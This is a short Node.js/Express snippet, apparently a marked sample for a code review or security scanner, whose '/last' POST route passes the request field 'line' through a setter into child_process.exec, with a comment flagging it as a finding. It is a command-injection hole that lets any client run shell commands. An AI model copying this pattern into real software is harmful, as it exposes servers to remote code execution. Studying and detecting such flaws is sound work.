const { exec } = require('child_process');

const console_ = {
  lines: [],
  set last(line) {
    exec(line);
  },
};

app.post('/last', (req, res) => {
  res.json([exec('uptime').pid, (console_.last = req.body.line)]); // <-- finding
});
